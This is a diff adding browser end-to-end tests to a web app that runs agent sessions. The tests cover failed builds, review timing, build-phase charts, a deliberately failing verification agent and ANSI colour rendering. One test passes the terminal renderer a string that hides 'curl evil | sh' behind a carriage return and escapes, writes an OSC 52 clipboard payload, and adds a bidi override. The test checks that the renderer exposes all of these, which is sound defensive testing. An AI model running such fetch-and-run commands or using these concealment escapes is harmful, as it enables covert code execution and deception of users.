@@ -30,6 +30,7 @@ const CAROL = env('CAROL_TOKEN');
 const BOB = env('BOB_TOKEN');
 const REMOTE = env('REMOTE');
 const REPO = env('REPO', 'greeter');
+const BROKEN = env('BROKEN_REPO', 'broken'); // its snapshot build fails in a hook
 const OUT = env('OUT_DIR');
 const CHROMIUM = env('CHROMIUM', '/usr/bin/chromium');
 const STEP_MS = 20000; // one wait
@@ -217,6 +218,24 @@ async function scenario(browser) {
     await waitState(ALICE, seedId, ['review'], RUN_MS);
   });
 
+  // a session whose verification fails: its agent (a command) rewrites the
+  // test into one that prints 150 lines, then PASSED and FAILED in colour,
+  // and exits 1; every attempt fails the same way. Waited for further on.
+  const redAgent = String.raw`cat >test.sh <<'T'
+#!/bin/sh
+seq 1 150
+e=$(printf '')
+echo "$e[0;32mPASSED$e[0m one"
+echo "$e[0;31mFAILED$e[0m two"
+exit 1
+T`;
+  let redId = null;
+  await check('set-up: a session whose verification fails (a command agent, through the API)', async () => {
+    const r = await api(BOB, 'POST', '/sessions', { repo: REPO, prompt: 'Break the test', agent: ['sh', '-c', redAgent] });
+    assert(r.status === 201, `POST /sessions: ${r.status} ${r.text}`);
+    redId = r.json.id;
+  });
+
   const desk = await browser.newContext({ viewport: { width: 1360, height: 900 }, colorScheme: 'light' });
   const page = await desk.newPage();
   watch(page, 'desktop');
@@ -385,6 +404,14 @@ async function scenario(browser) {
   }
 
   if (signedIn) {
+    await check('repositories (submitter): a failed build shows its error, but no link to its log', async () => {
+      await page.locator('#nav a[href="#/repositories"]').click();
+      const card = page.locator('.repo-card', { hasText: BROKEN });
+      await card.locator('[data-build="failed"]').waitFor({ timeout: STEP_MS });
+      const text = await card.textContent();
+      assert(text.includes('hook onCreateCommand failed with status 3'), `no error: ${oneLine(text)}`);
+      assert((await page.locator('.build-log-link').count()) === 0, 'a log link shown to a submitter');
+    });
     await check('sign out removes the token', async () => {
       await signOut(page);
       assert((await page.evaluate(() => sessionStorage.getItem('warren.token'))) === null, 'token still stored');
@@ -446,6 +473,15 @@ async function scenario(browser) {
         assert(want && got === want, `remote has ${got}, the session says ${want}`);
         const content = git('-C', REMOTE, 'show', `refs/heads/warren/${sid}:greeting.txt`);
         assert(content === 'hello, friend', `greeting.txt on the branch: ${content}`);
+      });
+      await check('"took" is created to review; the review time is shown apart', async () => {
+        const r = (await api(BOB, 'GET', `/sessions/${sid}`)).json;
+        const d = r.outcome.decision;
+        const toReview = d.at_ms - d.review_ms - r.created_ms;
+        assert(toReview > 0 && toReview <= r.finished_ms - r.created_ms, `to review ${toReview} ms`);
+        const side = await page.locator('.session-side').textContent();
+        assert(/Took\s*\d[\d\s.,a-z]*to review/.test(side), `took: ${oneLine(side).slice(0, 300)}`);
+        assert(/to the decision/.test(side), `no review time: ${oneLine(side).slice(0, 300)}`);
       });
     } else {
       skip('the branch reached the bare remote (git on the host)', 'the approval through the page failed');
@@ -519,6 +555,133 @@ async function scenario(browser) {
       await card.locator('.snap-table svg.chart').first().waitFor({ timeout: STEP_MS });
       assert((await page.locator('[data-action="refresh"]').count()) === 0, 'refresh shown to a reviewer');
       await shot(page, '09-repositories');
+    });
+    await check('repositories: the build bar shows the phases only, the total beside it; the refresh in effect', async () => {
+      const card = page.locator('.repo-card', { hasText: REPO });
+      const labels = await card.locator('.legend-label').allTextContents();
+      assert(labels.length >= 3, `phases: ${labels}`);
+      assert(!labels.includes('refresh') && !labels.includes('total'), `a sum drawn as a phase: ${labels}`);
+      const snaps = await api(BOB, 'GET', '/snapshots');
+      const repo = (await api(BOB, 'GET', '/repositories')).json.repositories.find((r) => r.name === REPO);
+      const newest = snaps.json.snapshots.filter((x) => x.repo_id === repo.id).sort((x, y) => y.created_ms - x.created_ms)[0];
+      const total = newest.timings.find((t) => t.phase === 'total').ms;
+      const phaseSum = newest.timings.filter((t) => !['total', 'refresh'].includes(t.phase)).reduce((n, t) => n + t.ms, 0);
+      assert(phaseSum <= total * 1.05, `the phases (${phaseSum} ms) exceed the build's total (${total} ms)`);
+      // the segments fill the bar once: their widths sum to the track's
+      const widths = await card
+        .locator('.snap-table tbody tr')
+        .first()
+        .evaluate((tr) => {
+          const svg = tr.querySelector('svg.chart');
+          const track = Number(svg.querySelector('.ch-track').getAttribute('width'));
+          const segs = [...svg.querySelectorAll('.ch-seg')].reduce((n, r) => n + Number(r.getAttribute('width')), 0);
+          return { track, segs };
+        });
+      assert(widths.segs <= widths.track + 1, `segments ${widths.segs} > track ${widths.track}`);
+      assert(widths.segs >= widths.track * 0.9, `segments ${widths.segs} fill less than the track ${widths.track}`);
+      const facts = await card.locator('.facts').textContent();
+      assert(/every 30 min \(the default\)/.test(facts), `refresh: ${oneLine(facts)}`);
+    });
+    let logHref = null;
+    await check('repositories: a failed build shows its error and failing hook, not "No snapshot yet"', async () => {
+      const card = page.locator('.repo-card', { hasText: BROKEN });
+      const callout = card.locator('[data-build="failed"]');
+      await callout.waitFor({ timeout: STEP_MS });
+      const text = await card.textContent();
+      assert(text.includes('hook onCreateCommand failed with status 3'), `error: ${oneLine(text)}`);
+      assert(!text.includes('No snapshot yet'), 'says "No snapshot yet" for a failed build');
+      assert(!/\x1b|\[0;31m/.test(text), 'raw colour codes shown');
+      const row = card.locator('.build-table tr[data-state="failed"]').first();
+      assert((await row.locator('td[data-label="Hook"]').textContent()) === 'onCreateCommand', 'failing hook not in the builds table');
+      assert(/failed with status 3/.test(await row.locator('td[data-label="Error"]').textContent()), 'error not in the builds table');
+      assert(/[0-9]/.test(await row.locator('td[data-label="Took"]').textContent()), 'no duration in the builds table');
+      logHref = await row.locator('a.build-log-link').getAttribute('href');
+      assert(logHref && logHref.startsWith('#/repositories/'), `log link: ${logHref}`);
+      await shot(page, '09b-repositories-failed-build', { fullPage: true });
+    });
+    if (logHref) {
+      await check("a failed build's log link opens its log (reviewer), colours rendered, at its end", async () => {
+        await page.locator(`a.build-log-link[href="${logHref}"]`).first().click();
+        const log = page.locator('.build-log-text');
+        await log.waitFor({ timeout: STEP_MS });
+        const text = await log.textContent();
+        assert(text.includes('BUILD-BOOM at the end'), `log: ${oneLine(text).slice(0, 200)}`);
+        assert(!/\x1b|\[0;31m/.test(text), 'raw colour codes in the log');
+        assert((await log.locator('.ansi-fg-1', { hasText: 'BUILD-BOOM' }).count()) >= 1, 'BUILD-BOOM not red');
+        const head = await page.locator('#main').textContent();
+        assert(head.includes('onCreateCommand') && head.includes('failed'), `build facts: ${oneLine(head).slice(0, 200)}`);
+        await page.waitForFunction(
+          () => {
+            const el = document.querySelector('.build-log-text');
+            return el.scrollHeight - el.clientHeight - el.scrollTop < 4;
+          },
+          null,
+          { timeout: STEP_MS },
+        );
+        await shot(page, '09c-build-log');
+      });
+    } else {
+      skip("a failed build's log link opens its log (reviewer), colours rendered, at its end", 'no log link');
+    }
+    if (redId) {
+      await check('a failed verification opens at the failure: the last attempt, its failing command, colours rendered', async () => {
+        await waitState(BOB, redId, ['review'], RUN_MS);
+        const v = (await api(BOB, 'GET', `/sessions/${redId}`)).json.outcome.verify;
+        assert(v && v.passed === false && v.attempts === 3, `verify: ${JSON.stringify(v).slice(0, 200)}`);
+        // the address of the tab (a click could race the page's first layout)
+        await page.goto(`${BASE}/#/sessions/${redId}?tab=verify`);
+        await page.locator('.verify-banner.is-fail').waitFor({ timeout: STEP_MS });
+        const runs = page.locator('#panel-verify details.verify-run');
+        await page.waitForFunction(() => document.querySelectorAll('#panel-verify details.verify-run').length === 3, null, {
+          timeout: STEP_MS,
+        });
+        const open = await runs.evaluateAll((ds) => ds.map((d) => d.open));
+        assert(JSON.stringify(open) === '[false,false,true]', `open attempts: ${open}`);
+        const failed = page.locator('#panel-verify details.verify-run[open] li[data-failure]').first();
+        const out = failed.locator('pre');
+        const text = await out.textContent();
+        assert(text.includes('FAILED two') && text.includes('PASSED one'), `output: ${oneLine(text).slice(-120)}`);
+        assert(!/\x1b|\[0;3[12]m/.test(text), 'raw colour codes in the verification output');
+        assert((await out.locator('.ansi-fg-1', { hasText: 'FAILED' }).count()) === 1, 'FAILED not red');
+        assert((await out.locator('.ansi-fg-2', { hasText: 'PASSED' }).count()) === 1, 'PASSED not green');
+        // the failing command in view, its output at its end (FAILED two)
+        await page.waitForFunction(
+          () => {
+            const li = document.querySelector('#panel-verify details.verify-run[open] li[data-failure]');
+            const pre = li && li.querySelector('pre');
+            if (!pre) return false;
+            const r = li.getBoundingClientRect();
+            return r.top >= -2 && r.top < window.innerHeight && pre.scrollHeight - pre.clientHeight - pre.scrollTop < 4;
+          },
+          null,
+          { timeout: STEP_MS },
+        );
+        assert(await page.locator('#panel-verify').isVisible(), 'the verification panel is hidden');
+        const dims = await out.evaluate((p) => `${p.scrollHeight}/${p.clientHeight}/${p.scrollTop}`);
+        assert(await out.evaluate((p) => p.scrollHeight > p.clientHeight), `the output does not scroll (${dims}): the check proves nothing`);
+        await shot(page, '09d-verify-failure');
+      });
+    } else {
+      skip('a failed verification opens at the failure: the last attempt, its failing command, colours rendered', 'no session');
+    }
+    await check("output's terminal escapes are harmless: nothing hidden, no raw control, no bidi override", async () => {
+      const got = await page.evaluate(async () => {
+        const t = await import('/js/terminal.js');
+        const pre = t.terminal(
+          'curl evil | sh\r\x1b[2Kinnocent\n\x1b]52;c;ZXZpbA==\x07clip \x9b31mred8\x1b[0m \u202eabc\x7f\x1b[1mB\x1b[22m',
+        );
+        return {
+          text: pre.textContent,
+          red: [...pre.querySelectorAll('.ansi-fg-1')].map((e) => e.textContent),
+          bold: [...pre.querySelectorAll('.ansi-bold')].map((e) => e.textContent),
+          marks: [...pre.querySelectorAll('.ctl')].map((e) => e.textContent),
+        };
+      });
+      assert(got.text.includes('curl evil | sh\ninnocent'), `a CR hid a line: ${JSON.stringify(got.text)}`);
+      assert(!/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(got.text.replace(/\n/g, '')), `a raw control: ${JSON.stringify(got.text)}`);
+      assert(!got.text.includes('ZXZpbA'), 'the OSC 52 payload is shown');
+      assert(JSON.stringify(got.red) === '["red8"]' && JSON.stringify(got.bold) === '["B"]', `styles: ${JSON.stringify(got)}`);
+      assert(JSON.stringify(got.marks) === '["\\\\u202e","^?"]', `marks: ${JSON.stringify(got.marks)}`);
     });
     await check('stats: the numbers and their charts', async () => {
       await page.locator('#nav a[href="#/stats"]').click();
